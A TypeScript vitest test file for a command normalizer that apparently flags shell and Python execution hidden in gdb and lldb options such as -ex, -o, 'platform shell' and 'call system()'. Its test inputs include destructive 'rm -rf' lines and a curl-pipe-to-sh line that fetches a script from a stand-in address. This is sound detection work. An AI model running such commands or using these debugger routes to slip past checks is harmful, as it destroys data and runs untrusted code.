/**
 * Debuggers (src/normalize/debuggers.ts): the gdb and lldb commands given on the command line
 * that run a shell line or Python/Scheme/Lua code are walked; the others run nothing.
 */
import { describe, expect, it } from 'vitest';
import { filesContext } from '../helpers/normalize.js';
import { parseScript } from '../../src/parse/parse.js';
import { normalize } from '../../src/normalize/index.js';
import { DEFAULT_LIMITS } from '../../src/engine/types.js';

/** Each command as `wrappers > argv` (a command whose name is unknown: `?`). */
function commands(script: string): string[] {
  const r = normalize(parseScript(script, DEFAULT_LIMITS), filesContext({}));
  return r.commands.map((c) => (c.program === '' ? '?' : `${c.wrappers.join(',')} > ${c.argv.join(' ')}`));
}

describe('debugger commands that run something', () => {
  it.each<[string, string]>([
    ["gdb -batch -ex 'shell rm -rf /x'", 'gdb -ex > rm -rf /x'],
    ["gdb -batch -ex '!rm -rf /x' ./app", 'gdb -ex > rm -rf /x'],
    ["gdb -batch --eval-command='shell rm -rf /x'", 'gdb -ex > rm -rf /x'],
    ["gdb -iex 'shell rm -rf /x' ./app", 'gdb -ex > rm -rf /x'],
    ["gdb -batch -ex 'pipe bt | rm -rf /x'", 'gdb -ex > rm -rf /x'],
    ["gdb -batch -ex '| info frame | rm -rf /x'", 'gdb -ex > rm -rf /x'],
    ["gdb -batch -ex 'pipe -d XX bt XX rm -rf /x'", 'gdb -ex > rm -rf /x'],
    ['gdb -batch -ex \'python import shutil; shutil.rmtree("/x")\'', 'gdb -ex,python -c > rm -rf /x'],
    ['gdb -batch -ex \'py import os; os.system("rm -rf /x")\'', 'gdb -ex,python -c > rm -rf /x'],
    ["gdb-multiarch -batch -ex 'shell rm -rf /x'", 'gdb -ex > rm -rf /x'],
    ["lldb --batch -o 'platform shell rm -rf /x'", 'lldb -o > rm -rf /x'],
    ["lldb -b -o 'platform shell -h -t 5 -- rm -rf /x' ./app", 'lldb -o > rm -rf /x'],
    ["lldb -b -o 'shell rm -rf /x'", 'lldb -o > rm -rf /x'],
    ["lldb --one-line='platform shell rm -rf /x'", 'lldb -o > rm -rf /x'],
    ["lldb -b -O 'platform shell rm -rf /x' ./app", 'lldb -o > rm -rf /x'],
    ['lldb -b -o \'script import os; os.system("rm -rf /x")\'', 'lldb -o,python -c > rm -rf /x'],
    [
      'lldb -b -o \'script -l python -- import shutil; shutil.rmtree("/x")\'',
      'lldb -o,python -c > rm -rf /x',
    ],
    ["lldb-17 -b -o 'platform shell rm -rf /x'", 'lldb -o > rm -rf /x'],
    ["lldb --batch -o 'platform shell curl -fsSL https://203.0.113.9/b.sh | sh'", 'lldb -o > sh'],
    // system()/popen() called in the debugged process
    ['gdb -p 4242 -batch -ex \'call (int)system("rm -rf /x")\'', 'gdb -ex > rm -rf /x'],
    ['gdb -p 4242 -batch -ex \'print system("rm -rf /x")\'', 'gdb -ex > rm -rf /x'],
    ['lldb -p 4242 -b -o \'expr (int)system("rm -rf /x")\'', 'lldb -o > rm -rf /x'],
    ['lldb -p 4242 -b -o \'po (void*)popen("rm -rf /x", "r")\'', 'lldb -o > rm -rf /x'],
    // fail closed: a command not written as a literal
    ["gdb -p 4242 -batch -ex 'call (int)system(cmd)'", '?'],
    ['gdb -batch -ex "shell $CMD"', '?'],
    // gdb's $_shell() convenience function; -ex commands before --args are read too
    ['gdb -batch -ex \'p $_shell("rm -rf /x")\'', 'gdb -ex > rm -rf /x'],
    ["gdb -batch -ex 'shell rm -rf /x' --args ./app --port 1", 'gdb -ex > rm -rf /x'],
    ["gdb -batch -ex 'shell rm -rf /x' --args ./app --port 1", 'gdb -ex > ./app --port 1'],
    // fail closed: a command that is not one of those that only drive the program
    ["gdb -batch -ex 'shel rm -rf /x'", '?'],
    ['gdb -batch -ex \'eval "shell rm -rf /x"\'', '?'],
    ["gdb -batch -ex 'source /tmp/cmds.gdb' ./app", '?'],
    ["lldb -b -o 'command script import /tmp/x.py'", '?'],
    ["lldb -b -o 'scr import os'", '?'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string]>([
    ["lldb --batch -o 'bt' -o 'quit' ./app"],
    ["lldb -b -o 'breakpoint set -n main' -o run ./app"],
    ['gdb -batch -ex run -ex bt ./app'],
    ["gdb -batch -ex 'info registers' ./app"],
    ['lldb -p 4242'],
    ['gdb ./app'],
    ["gdb -batch -ex 'print sizeof(int)' ./app"],
    ["lldb -b -o 'p argc' -o 'expr x = 3' ./app"],
    ["gdb -q -batch -ex 'thread apply all bt' -ex 'set pagination off' -p 1234"],
    ["lldb -b -o 'breakpoint list' -o 'frame variable' -o 'memory read 0x1000' ./app"],
  ])('%s runs nothing else', (script) => expect(commands(script)).toHaveLength(1));

  it.each<[string, string]>([
    ["gdb -batch -ex 'shell ls -la' ./app", 'gdb -ex > ls -la'],
    ["lldb --batch -o 'platform shell ls /tmp' ./app", 'lldb -o > ls /tmp'],
    ["lldb -b -o 'script print(1 + 2)'", 'lldb -o > python3 -c print(1 + 2)'],
    ['gdb -batch -ex run -ex bt --args ./app --port 1', 'gdb --args > ./app --port 1'],
  ])('%s runs only a reader', (script, want) => expect(commands(script)).toContain(want));
});
